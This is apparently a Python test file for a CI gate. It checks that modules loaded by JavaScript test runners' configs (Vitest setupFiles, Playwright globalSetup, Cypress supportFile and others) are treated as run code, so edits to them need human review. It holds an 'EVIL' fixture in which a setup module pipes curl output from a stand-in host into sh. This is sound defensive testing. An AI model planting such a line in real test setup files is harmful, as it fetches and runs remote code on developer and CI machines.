"""Attack 44: the setup, teardown and reporter modules a JavaScript test runner's settings name.

Vitest loads `test.setupFiles` and `test.globalSetup` (from `vitest.config.*` or `vite.config.*`), Playwright
`globalSetup`, `globalTeardown` and a local `reporter`, Mocha a local `reporter`, and Cypress its `supportFile` (a
path from its project's folder, `./` or not) or, where the settings name none, `cypress/support/e2e.*` and
`cypress/support/component.*`, before any test (each tool's documented settings). The walk named the settings module
and read its paths as the tool's data, so each such module stayed `src` and an edit to it was an exit-0 allow (`gate
--tree` on main 55d0fa69). Node's tools are not installed here: each form is what the documentation says loads. A
plugin call's argument in a Vite settings module (`plugins: [x('./src/y.js')]`) and a spec path stay data.
"""

from __future__ import annotations

from pathlib import Path

from citools import BLOCK_DEFINITIONS, one_tree_runs
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

MODULE = "export default function () {}\n"
EVIL = "import cp from 'child_process';\ncp.execSync('curl https://127.0.0.1:9/i | sh');\n" + MODULE
# (the command, the settings file, its text, the module it loads)
CASES = [
    ("npx vitest run", "vitest.config.ts", "export default { test: { setupFiles: ['./test/setup.ts'] } };\n",
     "test/setup.ts"),
    ("npx vitest run", "vitest.config.mts",
     "export default {\n  test: {\n    globalSetup: './test/global.ts',\n  },\n};\n", "test/global.ts"),
    ("npx vitest", "vite.config.ts", "import { defineConfig } from 'vite';\nexport default defineConfig({ test: { "
     "setupFiles: ['./src/setupTests.ts'] } });\n", "src/setupTests.ts"),
    ("npx playwright test", "playwright.config.ts",
     "export default { globalSetup: require.resolve('./e2e/global-setup') };\n", "e2e/global-setup.ts"),
    ("npx playwright test", "playwright.config.ts", "export default { globalTeardown: './e2e/teardown.ts' };\n",
     "e2e/teardown.ts"),
    ("npx playwright test", "playwright.config.js",
     "module.exports = { reporter: [['./e2e/reporter.js'], ['html']] };\n", "e2e/reporter.js"),
    ("npx mocha", ".mocharc.yml", "reporter: ./test/reporter.js\n", "test/reporter.js"),
    ("npx cypress run", "cypress.config.js", "module.exports = { e2e: { supportFile: 'tests/support.js' } };\n",
     "tests/support.js"),
    ("npx cypress run", "cypress.config.ts", "export default { e2e: { baseUrl: 'http://localhost' } };\n",
     "cypress/support/e2e.ts"),
    ("npx cypress run --component", "cypress.config.js", "module.exports = { component: {} };\n",
     "cypress/support/component.js"),
]


@each_case(("line", "name", "text", "target"), CASES)
def test_the_module_a_runner_loads_is_run(line: str, name: str, text: str, target: str) -> None:
    for definition, template in BLOCK_DEFINITIONS[:2]:
        runs = one_tree_runs({definition: template.format(line=line), "package.json": '{"name": "x"}', name: text,
                              target: MODULE})
        assert isinstance(runs, dict) and target in runs, (definition, sorted(runs) if isinstance(runs, dict) else runs)


# paths a runner's settings hold as data: a spec pattern, an output folder, a plugin call's argument, a base URL
LOOK_ALIKES = [
    ("npx vite build", "vite.config.ts", "export default { plugins: [copy('./src/y.js')], build: { outDir: './dist' } "
     "};\n", "src/y.js"),
    ("npx vitest run", "vitest.config.ts", "export default { test: { include: ['./test/y.js'] } };\n", "test/y.js"),
    ("npx playwright test", "playwright.config.ts", "export default { testDir: './e2e/y.ts' };\n", "e2e/y.ts"),
    ("npx cypress run", "cypress.config.js", "module.exports = { e2e: { specPattern: 'cypress/y.js' } };\n",
     "cypress/y.js"),
]


@each_case(("line", "name", "text", "target"), LOOK_ALIKES)
def test_a_data_path_is_not_run(line: str, name: str, text: str, target: str) -> None:
    definition, template = BLOCK_DEFINITIONS[0]
    runs = one_tree_runs({definition: template.format(line=line), "package.json": '{"name": "x"}', name: text,
                          target: MODULE})
    assert isinstance(runs, dict) and target not in runs, sorted(runs)


@each_case(("line", "name", "text", "target"), [CASES[0], CASES[3], CASES[8]])
def test_the_edited_module_needs_a_human(tmp_path: Path, line: str, name: str, text: str, target: str) -> None:
    base = {".github/workflows/ci.yml": BLOCK_DEFINITIONS[0][1].format(line=line), "package.json": '{"name": "x"}',
            name: text, target: MODULE}
    _, first, second = two_commits(tmp_path, base, {target: EVIL})
    code, decision = tree_gate(tmp_path, first, second, None)
    assert code == 3, decision["reasons"]
